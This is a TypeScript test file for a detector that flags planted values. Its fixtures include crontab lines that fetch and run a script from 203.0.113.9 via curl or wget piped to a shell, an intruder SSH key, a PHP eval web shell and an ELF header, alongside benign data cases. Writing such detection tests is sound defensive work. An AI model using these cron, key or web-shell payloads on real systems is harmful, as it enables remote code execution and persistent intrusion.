import * as fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { PLANTED_NAMES, plantedKind } from '../../../src/domain/traces/planted-value.ts';

const KEY = 'ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQ intruder@host';

describe('a value', () => {
  it.each([
    ['backup1', '\t\n*/2 * * * * cd1 -fsSL http://203.0.113.9/b.sh | sh\n\t', 'a crontab line'],
    ['backup1', '*/2 * * * * root curl http://203.0.113.9 | bash', 'a crontab line'],
    ['backup2', '@reboot wget -q -O- http://203.0.113.9 | sh', 'a crontab line'],
    ['crackit', `\n\n\n${KEY}\n\n\n`, 'an SSH key'],
    ['crackit', KEY, 'an SSH key'],
    ['session:1', `\n\n${KEY}\n`, 'an SSH key'],
    ['j', '\n\n0 3 1,15 * 1-5 root /tmp/x\n', 'a crontab line'],
    ['webshell', "<?php eval($_POST['x']); ?>", 'a script'],
    ['anything', '\u007fELF\u0002\u0001\u0001\n', 'a program'],
  ])('of %s is planted: %j', (name, value, kind) => expect(plantedKind(name, value)).toBe(kind));

  it.each([
    ['backup1', '{"at":"2026-11-30","size":12}'],
    ['backup1', '2026-11-30 03:00:00 done'],
    ['test', '1 2 3'],
    ['x', ''],
    ['key', 'ssh is up'],
    ['cron', 'every 5 minutes'],
    // A key of an application that manages keys, or schedules: alone on its first line.
    ['users:ada:key', KEY],
    ['jobs:nightly', '0 3 * * * rebuild-index'],
    ['page:/', '<!doctype html>\n<?php'],
    ['log', 'first line\n2026-11-30 03:00:00 second line'],
  ])('of %s is data: %j', (name, value) => expect(plantedKind(name, value)).toBeNull());

  it('takes no longer for a long one', () => {
    fc.assert(
      fc.property(
        fc.constantFrom(' ', '* ', '1,', '\n', '\t*', '@'),
        fc.constantFrom(...PLANTED_NAMES),
        (piece, name) => {
          const began = performance.now();
          plantedKind(name, piece.repeat(20_000));
          expect(performance.now() - began).toBeLessThan(1000);
        },
      ),
      { numRuns: 40 },
    );
  });
});
